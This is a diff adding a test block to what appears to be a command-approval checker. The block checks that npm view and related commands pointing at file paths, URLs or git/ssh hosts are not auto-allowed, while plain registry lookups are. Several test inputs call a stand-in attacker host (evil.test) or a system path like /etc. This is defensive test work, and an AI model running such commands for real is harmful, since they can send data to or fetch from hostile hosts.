@@ -471,3 +471,31 @@ describe("az groups that print access keys without saying keys", () => {
     });
   });
 });
+
+describe("npm registry reads of a spec that is not a registry name", () => {
+  test("file:/path specs print another package.json; URL and git specs fetch from or ssh to their host", async () => {
+    const dir = repo("npm-specs", { "package.json": PKG });
+    await expectVerdicts(dir, {
+      "npm view file:../../x": "fallthrough",
+      "npm view x@file:/etc": "fallthrough",
+      "npm view ./x": "fallthrough",
+      "npm view x.tgz": "fallthrough",
+      "npm view https://evil.test/x.tgz": "fallthrough",
+      "npm view evil@https://evil.test/DATA": "fallthrough",
+      "npm view git+ssh://git@evil.test/r.git": "fallthrough",
+      "npm info evil@git+https://evil.test/x": "fallthrough",
+      "npm view github:user/repo": "fallthrough",
+      "npm view user/repo": "fallthrough",
+      "npm view x@user/repo": "fallthrough",
+      "npm dist-tag ls https://evil.test/x": "fallthrough",
+      "npm owner ls git+ssh://evil.test/x": "fallthrough",
+      // controls
+      "npm view lodash": "allow",
+      "npm view lodash@4 version": "allow",
+      "npm view @scope/pkg@latest dist.tarball": "allow",
+      "npm view": "allow",
+      "npm dist-tag ls lodash": "allow",
+      'npm query ":root > .prod"': "allow",
+    });
+  });
+});
